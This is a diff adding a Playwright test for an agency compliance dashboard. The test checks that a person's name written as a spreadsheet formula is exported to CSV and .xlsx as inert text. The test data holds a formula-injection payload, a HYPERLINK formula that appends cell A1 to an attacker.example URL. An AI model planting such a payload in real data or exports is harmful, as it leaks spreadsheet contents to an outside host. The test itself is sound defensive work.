@@ -4,6 +4,7 @@ import path from "node:path";
 import ExcelJS from "exceljs";
 import type { Browser } from "playwright-core";
 import { describeInBrowser, launchBrowser, screenshot, seriousAccessibilityViolations, signInAs } from "../support/browser";
+import { official, queryData } from "../support/graphql-client";
 import { startHub, type RunningHub } from "../support/hub";
 
 describeInBrowser("agency compliance in the browser: the table, and its export as a spreadsheet", () => {
@@ -57,6 +58,51 @@ describeInBrowser("agency compliance in the browser: the table, and its export a
     expect(text.startsWith("\uFEFF")).toBe(true);
     expect(text.trim().split("\r\n")).toHaveLength(agencies.length + 1);
     expect(text).toContain("Sở Thông tin và Truyền thông");
+    await page.close();
+  });
+
+  it("writes a focal point named like a formula into the .csv and .xlsx as text, never a formula", async () => {
+    const formula = `=HYPERLINK("http://attacker.example/?"&A1,"Chi tiet")`;
+    await queryData(
+      hub.gateway.url,
+      /* GraphQL */ `
+        mutation ($input: FocalPointInput!) {
+          createFocalPoint(input: $input) {
+            id
+          }
+        }
+      `,
+      { input: { agencyId: "VN-30-SCT", role: "LEADER", fullName: formula, position: "+84 Giám đốc" } },
+      { as: official({ provinceCode: "VN-30", agencyCode: "SCT", role: "editor" }) },
+    );
+    const page = await browser.newPage({ acceptDownloads: true });
+    await signInAs(page, origin, "Điều phối viên Sở TT&TT Gia Lai");
+    await page.goto(`${origin}/compliance/VN-30/2019`);
+    await page.getByText(formula).first().waitFor();
+
+    const [csv] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất CSV" }).click()]);
+    const csvFile = path.join(folder, `formula-${csv.suggestedFilename()}`);
+    await csv.saveAs(csvFile);
+    const row = fs
+      .readFileSync(csvFile, "utf8")
+      .split("\r\n")
+      .find((line) => line.startsWith("SCT,"))!;
+    // the cell opens with an apostrophe, so Excel shows the text; quoted, since it holds commas and quotes
+    expect(row).toContain(`"'${formula.replace(/"/g, '""')}, +84 Giám đốc"`);
+
+    const [xlsx] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Xuất Excel (.xlsx)" }).click()]);
+    const xlsxFile = path.join(folder, `formula-${xlsx.suggestedFilename()}`);
+    await xlsx.saveAs(xlsxFile);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(xlsxFile);
+    const sheet = workbook.worksheets[0];
+    const cells = sheet.getSheetValues().flatMap((values) => (Array.isArray(values) ? values : []));
+    expect(cells.some((value) => typeof value === "object" && value !== null && "formula" in value)).toBe(false);
+    expect(cells).toContain(`${formula}, +84 Giám đốc`);
+    // the count of tasks each agency leads is a number, the header frozen and filtered
+    expect(typeof sheet.getRow(2).getCell(5).value).toBe("number");
+    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
+    expect(sheet.autoFilter).toBeTruthy();
     await page.close();
   });
 });
